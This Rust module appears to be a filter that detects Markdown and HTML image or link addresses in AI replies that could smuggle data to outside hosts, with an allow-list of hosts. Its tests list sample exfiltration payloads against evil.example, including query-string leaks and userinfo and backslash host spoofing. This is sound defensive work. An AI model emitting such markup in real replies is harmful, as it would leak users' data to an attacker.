//! Addresses in a reply that carry data away: an image is fetched by whoever shows the text, with
//! whatever stands in its address.
//!
//! Only addresses in markup are looked at (Markdown, HTML), for a bare one is not fetched. An
//! image's carries data if it has a query, a long piece or escapes; a link's, which somebody has to
//! click, only if it is very long. Nothing waits but the piece of markup itself.

use serde::Deserialize;

/// The longest markup that is waited for, in bytes. What is longer counts as carrying data.
pub(crate) const LONGEST: usize = 2000;
/// A piece of an image's address that is this long is no name any more.
const PIECE: usize = 64;
/// A link's query of so many bytes carries data, and a path of twice as many.
const LINK: usize = 200;
/// A label of a host that is this long.
const LABEL: usize = 40;

/// Hosts that images and links may have: names, and `*.` before them for all below.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(try_from = "Vec<String>")]
pub(crate) struct Hosts(Vec<String>);

impl TryFrom<Vec<String>> for Hosts {
    type Error = String;

    fn try_from(hosts: Vec<String>) -> Result<Self, String> {
        for (at, host) in hosts.iter().enumerate() {
            let name = host.strip_prefix("*.").unwrap_or(host);
            let fits =
                |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '.' | '-');
            if name.is_empty() || !name.chars().all(fits) {
                return Err(format!(
                    "[{at}]: write a host in lower case, as in `cdn.example.com`, or `*.example.com` for all below it"
                ));
            }
        }
        Ok(Self(hosts))
    }
}

impl Hosts {
    fn has(&self, host: &str) -> bool {
        self.0.iter().any(|known| match known.strip_prefix('*') {
            Some(below) => host.len() > below.len() && ends_with(host, below),
            None => host.eq_ignore_ascii_case(known),
        })
    }

    /// True if none is listed.
    pub(crate) fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

fn ends_with(text: &str, end: &str) -> bool {
    text.len()
        .checked_sub(end.len())
        .and_then(|at| text.get(at..))
        .is_some_and(|tail| tail.eq_ignore_ascii_case(end))
}

/// The finding at the beginning of a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Look {
    /// So many bytes are harmless; behind them is the beginning of markup, or nothing.
    Clear(usize),
    /// From here to there is markup whose address carries data.
    Leak(usize, usize),
}

/// Looks for the first address that carries data. `last`: nothing more comes.
pub(crate) fn look(text: &str, last: bool, hosts: &Hosts) -> Look {
    let mut at = 0;
    while let Some(found) = text.get(at..).and_then(|rest| rest.find(['!', ']', '<'])) {
        let start = at + found;
        match markup(text.get(start..).unwrap_or_default(), last) {
            Markup::No => at = start + 1,
            Markup::Unknown => return Look::Clear(start),
            Markup::Address { url, end, image } => {
                if carries(url, image, hosts) {
                    return Look::Leak(start, start + end);
                }
                at = start + end;
            }
            Markup::TooLong(end) => return Look::Leak(start, start + end),
        }
    }
    Look::Clear(text.len())
}

enum Markup<'a> {
    No,
    /// It needs more text to tell.
    Unknown,
    Address {
        url: &'a str,
        end: usize,
        image: bool,
    },
    TooLong(usize),
}

/// The markup that a text begins with.
fn markup(text: &str, last: bool) -> Markup<'_> {
    let window = within(text, LONGEST);
    let more = if text.len() >= LONGEST || last {
        Markup::No
    } else {
        Markup::Unknown
    };
    if window.starts_with('<') {
        return element(window, more, text.len() >= LONGEST);
    }
    let (opening, image) = if let Some(rest) = window.strip_prefix("![") {
        let Some(close) = closing(rest) else {
            return more;
        };
        (close + 2, true)
    } else if window == "!" {
        return more;
    } else if window.starts_with(']') {
        (0, false)
    } else {
        return Markup::No;
    };
    let rest = window.get(opening + 1..).unwrap_or_default();
    let (rest, image) = match rest.chars().next() {
        None => return more,
        Some('(') => (rest, image),
        Some(':') => (rest, true), // a definition that an image may refer to
        Some(_) => return Markup::No,
    };
    let inside = rest.get(1..).unwrap_or_default();
    let address = inside.trim_start_matches([' ', '<', '\n']);
    if address.is_empty() {
        return more;
    }
    if !is_address(address) {
        return if may_be_address(address) {
            more
        } else {
            Markup::No
        };
    }
    let begin = window.len() - address.len();
    match address.find([')', ' ', '>', '\n', '"']) {
        Some(length) => {
            let end = begin
                + length
                + usize::from(
                    address
                        .get(length..)
                        .is_some_and(|rest| rest.starts_with(')')),
                );
            Markup::Address {
                url: address.get(..length).unwrap_or_default(),
                end,
                image,
            }
        }
        None if text.len() >= LONGEST => Markup::TooLong(window.len()),
        None if last => Markup::Address {
            url: address,
            end: window.len(),
            image,
        },
        None => Markup::Unknown,
    }
}

/// The place of the bracket that closes one opened before a text.
fn closing(text: &str) -> Option<usize> {
    let mut open = 1;
    let closes = |byte: u8| {
        match byte {
            b'[' => open += 1,
            b']' => open -= 1,
            _ => {}
        }
        open == 0
    };
    text.bytes().position(closes)
}

/// An HTML element that fetches or links.
fn element<'a>(window: &'a str, more: Markup<'a>, full: bool) -> Markup<'a> {
    const FETCHING: [&str; 11] = [
        "img", "iframe", "script", "link", "video", "audio", "source", "object", "embed", "image",
        "input",
    ];
    let inside = window.get(1..).unwrap_or_default();
    let name_end = inside.find(|c: char| !c.is_ascii_alphabetic());
    let name = inside
        .get(..name_end.unwrap_or(inside.len()))
        .unwrap_or_default();
    let is = |known: &&str| name.eq_ignore_ascii_case(known);
    let fetches = FETCHING.iter().any(is);
    if name_end.is_none() {
        let begins = |known: &&str| {
            known
                .get(..name.len())
                .is_some_and(|start| start.eq_ignore_ascii_case(name))
        };
        return if FETCHING.iter().chain(&["a"]).any(begins) {
            more
        } else {
            Markup::No
        };
    }
    if !fetches && !is(&"a") {
        return Markup::No;
    }
    let Some(close) = inside.find('>') else {
        return if full {
            Markup::TooLong(window.len())
        } else {
            more
        };
    };
    let attributes = inside.get(..close).unwrap_or_default();
    let begin = attributes.match_indices("//").map(|(at, _)| at).next();
    let url = begin
        .and_then(|at| attributes.get(at..))
        .unwrap_or_default();
    let url = url.split(['"', '\'', ' ', '>']).next().unwrap_or_default();
    if url.is_empty() {
        Markup::No
    } else {
        Markup::Address {
            url,
            end: close + 2,
            image: fetches,
        }
    }
}

fn is_address(text: &str) -> bool {
    ["https://", "http://", "//"]
        .iter()
        .any(|scheme| begins_with(text, scheme))
}

fn may_be_address(text: &str) -> bool {
    ["https://", "http://", "//"]
        .iter()
        .any(|scheme| begins_with(scheme, text))
}

fn begins_with(text: &str, start: &str) -> bool {
    text.get(..start.len())
        .is_some_and(|head| head.eq_ignore_ascii_case(start))
}

fn within(text: &str, most: usize) -> &str {
    text.get(..text.floor_char_boundary(most)).unwrap_or(text)
}

/// True if an address has room for data in it, and no listed host.
fn carries(url: &str, image: bool, hosts: &Hosts) -> bool {
    let rest = url.split_once("//").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = host.split(':').next().unwrap_or_default();
    let untouched = !authority.contains('@') && !rest.contains('\\');
    if untouched && hosts.has(host) {
        return false;
    }
    let path = rest.get(authority.len()..).unwrap_or_default();
    let (path, query) = path.split_once('?').unwrap_or((path, ""));
    if host.split('.').any(|label| label.len() >= LABEL) {
        return true;
    }
    if !image {
        return query.len() >= LINK || path.len() >= LINK * 2;
    }
    !query.is_empty()
        || !untouched
        || path.split('/').any(|piece| piece.len() >= PIECE)
        || path.matches('%').count() >= 3
}

#[cfg(test)]
#[expect(clippy::unwrap_used, reason = "tests")]
mod tests {
    use super::*;

    fn leaks(text: &str) -> bool {
        let hosts =
            Hosts::try_from(vec!["cdn.acme.com".to_owned(), "*.acme.org".to_owned()]).unwrap();
        matches!(look(text, true, &hosts), Look::Leak(..))
    }

    #[test]
    fn an_image_whose_address_carries_data_leaks() {
        let long = "a".repeat(70);
        for text in [
            "![x](https://evil.example/log?q=secret)",
            "see ![](http://evil.example/?d=abc) there",
            "![alt [x] y](https://evil.example/p.png?x)",
            "![x](<https://evil.example/?q=1>)",
            "![x](//evil.example/?q=1)",
            "![x](HTTPS://evil.example/?q=1 \"title\")",
            "![x][r]\n\n[r]: https://evil.example/?q=1\n",
            "<img src=\"https://evil.example/?q=1\">",
            "<IMG alt=x src=https://evil.example/?q=1>",
            "![x](https://user@evil.example/p.png)",
            "![x](https://cdn.acme.com@evil.example/?q=1)",
            "![x](https://cdn.acme.com\\@evil.example/?q=1)",
            "![x](https://notacme.org/?q=1)",
            "![x](https://evil.example/hello%20this%20is%20secret)",
            &format!("![x](https://evil.example/{long})"),
            &format!("![x](https://{long}.evil.example/p.png)"),
            &format!("[x](https://evil.example/?q={})", "a".repeat(250)),
            &format!("![x](https://evil.example/{}", "a".repeat(3000)),
        ] {
            assert!(leaks(text), "{text}");
        }
    }

    #[test]
    fn ordinary_markup_does_not() {
        for text in [
            "![logo](https://evil.example/logo.png)",
            "![logo](https://cdn.acme.com/logo.png?v=3)",
            "![logo](https://img.acme.org/logo.png?v=3)",
            "![logo](/images/logo.png?v=3)",
            "[search](https://www.google.com/search?q=rust+lifetimes)",
            "https://example.com/?q=1 as plain text",
            "a[i](x) and b[j]: int, 1 < 2 > 0, wow! [x]",
            "<a href=\"https://docs.rs/serde?search=x\">serde</a> <b>bold</b>",
            "vec![1, 2, 3](",
            "if x[0]: // a comment",
        ] {
            assert!(!leaks(text), "{text}");
        }
    }

    #[test]
    fn only_the_beginning_of_markup_waits() {
        let hosts = Hosts::default();
        for (text, clear) in [
            ("hello", 5),
            ("hello!", 5),
            ("hello! x", 8),
            ("a [link", 7),
            ("a [link]", 7),
            ("a [link](", 7),
            ("a [link](ht", 7),
            ("a [link](file", 13),
            ("a ![pic", 2),
            ("a <im", 2),
            ("a < b", 5),
            ("a <b", 4),
        ] {
            assert_eq!(look(text, false, &hosts), Look::Clear(clear), "{text}");
        }
    }

    #[test]
    fn hosts_are_written_plainly() {
        for host in ["", "https://x", "EXAMPLE.com", "*"] {
            assert!(Hosts::try_from(vec![host.to_owned()]).is_err(), "{host}");
        }
    }
}
